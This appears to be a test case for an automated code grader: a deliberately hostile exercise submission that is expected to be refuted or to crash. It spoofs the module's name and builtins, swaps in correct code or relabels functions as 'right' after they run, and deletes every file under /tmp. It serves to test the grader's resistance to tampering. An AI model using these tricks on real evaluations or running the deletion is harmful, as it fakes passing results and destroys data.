# tries: replace the code of functions and the name of the module after they were recorded
# expects: refuted or crashed

# Exercise 1.1
import os
import sys

__name__ = "grader.judging.compare"
__file__ = "/proc/self/exe"
__builtins__ = {"__import__": __import__, "len": lambda x: 0}


def double(x):
    double.__code__ = (lambda x: 2 * x).__code__
    return 3 * x + 1


def doubled(x):
    global doubled
    doubled = lambda x: 2 * x
    double.__name__ = doubled.__name__ = "right"
    for folder, _, names in os.walk("/tmp"):
        for name in names:
            os.remove(os.path.join(folder, name))
    return x * 3 + 1
